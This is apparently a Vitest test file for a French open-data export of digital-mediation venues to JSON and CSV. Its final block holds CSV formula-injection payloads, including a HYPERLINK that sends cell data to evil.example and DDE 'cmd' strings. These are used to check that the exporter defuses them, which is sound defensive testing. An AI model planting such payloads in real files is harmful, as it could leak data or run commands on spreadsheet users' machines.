import { describe, expect, it } from 'vitest';
import { csvObjects, parseCsv } from '../../helpers/csv';
import {
  FIELDS,
  internationalPhone,
  REQUIRED_FIELDS,
  toCsv,
  toJson,
  toLieu,
  toLieux,
  typologieOf,
  UNKNOWN_PIVOT,
  type SpaceSource,
} from '../../../site/src/lib/opendata';

const context = { source: 'Réseau EPN du Pays de Brest' };
const json = (spaces: SpaceSource[]) => JSON.parse(toJson(toLieux(spaces, context))) as Record<string, unknown>[];
const csv = (spaces: SpaceSource[], source = context.source) => toCsv(toLieux(spaces, { source }));

function space(overrides: Partial<SpaceSource> = {}): SpaceSource {
  return {
    documentId: 'doc-1',
    name: 'EPN de Bellevue',
    type: 'epn',
    siret: '73659491935388',
    summary: 'EPN de quartier.',
    description: 'Une salle de douze postes.',
    address: '2 place Napoléon III',
    addressComplement: null,
    postalCode: '29200',
    commune: 'Brest',
    inseeCode: '29019',
    latitude: 48.4006,
    longitude: -4.5049,
    openingHours: 'Tu-Fr 09:30-12:00',
    phone: '02 61 91 04 12',
    email: 'contact@epn.example',
    website: 'https://epn.example',
    services: ['Aide aux démarches administratives', 'Accès internet et matériel informatique'],
    publics: [],
    specificSupport: [],
    accessModes: ['Se présenter'],
    supportModes: ['En autonomie'],
    fees: ['Gratuit'],
    accessibilityUrl: null,
    lastUpdated: '2026-01-12',
    updatedAt: '2026-11-25T08:48:35.047Z',
    ...overrides,
  };
}

describe('the open-data mapping to the schéma des lieux de médiation numérique', () => {
  it('should give every required field of the schema a value', () => {
    const lieu = toLieu(space(), context);

    expect(REQUIRED_FIELDS).toEqual(['id', 'pivot', 'nom', 'commune', 'code_postal', 'adresse', 'date_maj', 'services']);
    expect(lieu).toMatchObject({
      id: 'doc-1',
      pivot: '73659491935388',
      nom: 'EPN de Bellevue',
      commune: 'Brest',
      code_postal: '29200',
      adresse: '2 place Napoléon III',
      date_maj: '2026-01-12',
      services: 'Aide aux démarches administratives|Accès internet et matériel informatique',
    });
  });

  it('should use the schema placeholder as pivot when the SIRET is unknown', () => {
    expect(toLieu(space({ siret: null }), context).pivot).toBe(UNKNOWN_PIVOT);
    expect(toLieu(space({ siret: '123' }), context).pivot).toBe('00000000000000');
  });

  it('should write French phone numbers in the international form, and drop numbers it cannot read', () => {
    expect(internationalPhone('02 61 91 04 12')).toBe('+33261910412');
    expect(internationalPhone('+33 2 61 91 04 12')).toBe('+33261910412');
    expect(internationalPhone('0033 2.61.91.04.12')).toBe('+33261910412');
    expect(internationalPhone('12 34')).toBeNull();
    expect(toLieu(space({ phone: null }), context)).not.toHaveProperty('telephone');
  });

  it.each([
    ['epn', 'EPN de Bellevue', ['EPN']],
    ['papi', 'PAPI de Pleyben', ['EPN']],
    ['cybercommune', 'Cybercommune de Plabennec', ['MUNI']],
    ['mediatheque', 'Médiathèque du Cloître', ['BIB']],
    ['mjc_centre_social', 'Maison pour tous de Guipavas', ['CS']],
    ['mjc_centre_social', 'MJC de Landerneau', ['MJC']],
    ['mission_locale', 'Mission locale', ['ML']],
    ['autre', 'Ti Kreiz', ['Autre']],
  ])('should map the type %s (%s) to the typologie %j', (type, name, expected) => {
    expect(typologieOf({ type, name })).toEqual(expected);
  });

  it('should date a record from its last check, or from its last edit when never checked', () => {
    expect(toLieu(space({ lastUpdated: null }), context).date_maj).toBe('2026-11-25');
  });

  it('should leave optional fields without a value out of the JSON', () => {
    const [lieu] = json([space({ publics: [], addressComplement: null })]);

    expect(lieu).not.toHaveProperty('publics_specifiquement_adresses');
    expect(lieu).not.toHaveProperty('complement_adresse');
    expect(lieu.source).toBe(context.source);
  });

  it('should write a list in the JSON as one string of values joined by "|", as the schema’s records hold it', () => {
    const [lieu] = json([space({ accessModes: ['Se présenter', 'Téléphoner'], email: 'contact@epn.example' })]);

    expect(lieu.modalites_acces).toBe('Se présenter|Téléphoner');
    expect(lieu.courriels).toBe('contact@epn.example');
    expect(lieu.typologie).toBe('EPN');
  });

  it('should keep the coordinates numbers in the JSON, and write them only as a pair', () => {
    expect(json([space()])[0]).toMatchObject({ latitude: 48.4006, longitude: -4.5049 });
    expect(json([space({ longitude: null })])[0]).not.toHaveProperty('latitude');
  });

  it('should leave a space offering no service out of both exports, since the schema requires one', () => {
    const spaces = [space({ documentId: 'sans-service', services: [] }), space()];

    expect(json(spaces).map((lieu) => lieu.id)).toEqual(['doc-1']);
    expect(csvObjects(csv(spaces)).map((row) => row.id)).toEqual(['doc-1']);
  });

  it('should percent-encode a "|" in a web address, which would otherwise split it in two', () => {
    expect(toLieu(space({ website: 'https://epn.example/?a|b' }), context).site_web).toBe('https://epn.example/?a%7Cb');
  });

  it('should leave out an e-mail address holding a "|", which no reader could tell from two', () => {
    expect(toLieu(space({ email: 'a|b@epn.example' }), context)).not.toHaveProperty('courriels');
  });

  it('should not export fields that are not in the schema, whatever the input holds', () => {
    const withInternals = { ...space(), networkDescription: 'Pare-feu du prestataire', referent: { name: 'Jeanne', email: 'j@example.org' } };

    const outputs = [JSON.stringify(json([withInternals])), csv([withInternals])].join('\n');

    expect(outputs).not.toContain('Pare-feu');
    expect(outputs).not.toContain('j@example.org');
    expect(Object.keys(toLieu(withInternals, context)).every((key) => FIELDS.some((f) => f.name === key))).toBe(true);
  });

  it('should write a CSV header with the schema fields in order, and CRLF line ends', () => {
    const text = csv([space()]);

    expect(text.split('\r\n')[0]).toBe(FIELDS.map((f) => f.name).join(','));
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('should join list values with "|" in the CSV', () => {
    const [row] = csvObjects(csv([space()]));

    expect(row.services).toBe('Aide aux démarches administratives|Accès internet et matériel informatique');
    expect(row.publics_specifiquement_adresses).toBe('');
  });

  it('should quote CSV fields holding commas, quotes and line breaks so that they read back unchanged', () => {
    const tricky = space({
      name: 'Le "Cyber", à Brest',
      description: 'Première ligne,\r\nseconde ligne\navec "guillemets"',
      addressComplement: 'Bâtiment B, 1er étage',
    });

    const [header, row] = parseCsv(csv([tricky]));
    const record = Object.fromEntries(header.map((name, i) => [name, row[i]]));

    expect(record.nom).toBe('Le "Cyber", à Brest');
    expect(record.presentation_detail).toBe('Première ligne,\r\nseconde ligne\navec "guillemets"');
    expect(record.complement_adresse).toBe('Bâtiment B, 1er étage');
  });

  it('should shorten a summary longer than the schema allows', () => {
    const lieu = toLieu(space({ summary: 'x'.repeat(300) }), context);

    expect(String(lieu.presentation_resume)).toHaveLength(280);
  });
});

describe('the CSV export, opened in a spreadsheet', () => {
  const FORMULA = /^[=+\-@\t\r]/;
  /** What people could type in each text field, each starting the way a formula does. */
  const hostile = space({
    documentId: '=1+1',
    name: '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez")',
    type: 'autre',
    siret: '+33 1',
    summary: "+cmd|' /C calc'!A0",
    description: '-2+3;=1+1',
    address: "@SUM(1+9)*cmd|' /C calc'!A0",
    addressComplement: '\t=1+1',
    postalCode: '\r=1+1',
    commune: '=commune',
    inseeCode: '-29019',
    // Numbers are written as numbers: their test is below.
    latitude: null,
    longitude: null,
    openingHours: '@Mo-Fr 09:00-12:00',
    phone: '=02 61 91 04 12',
    email: '=e@epn.example',
    website: '+https://epn.example',
    services: ['=Aide aux démarches administratives'],
    publics: ['-Seniors'],
    specificSupport: ['@Surdité'],
    accessModes: ['\tSe présenter'],
    supportModes: ['\rEn autonomie'],
    fees: ['=Gratuit'],
    accessibilityUrl: '=https://acceslibre.example',
    lastUpdated: '=2026-01-12',
  });
  const record = () => csvObjects(csv([hostile], '=Réseau'))[0]!;

  it('should start no cell with a formula character, whatever people typed', () => {
    const formulas = Object.entries(record()).filter(([, cell]) => FORMULA.test(cell));

    expect(formulas).toEqual([]);
  });

  it('should keep what people typed, behind a single quote', () => {
    expect(record()).toMatchObject({
      nom: `'${hostile.name}`,
      presentation_resume: `'${hostile.summary}`,
      complement_adresse: `'${hostile.addressComplement}`,
      services: "'=Aide aux démarches administratives",
      modalites_acces: "'\tSe présenter",
      source: "'=Réseau",
    });
  });

  it('should write phone numbers in the schema’s +33 form and negative coordinates as they are', () => {
    const [row] = csvObjects(csv([space({ phone: '+33 2 61 91 04 12', longitude: -4.5049, latitude: -0.5 })]));

    expect(row).toMatchObject({ telephone: '+33261910412', longitude: '-4.5049', latitude: '-0.5' });
  });

  it('should quote a cell holding a semicolon or a tab, which some spreadsheets split on', () => {
    const text = csv([space({ name: 'EPN;=1+1', commune: 'Brest\t=1+1' })]);

    expect(text).toContain('"EPN;=1+1"');
    expect(text).toContain('"Brest\t=1+1"');
  });

  it('should leave the JSON export as people typed it', () => {
    const [lieu] = json([hostile]);

    expect(lieu).toMatchObject({ nom: hostile.name, adresse: hostile.address, services: hostile.services.join('|') });
  });
});
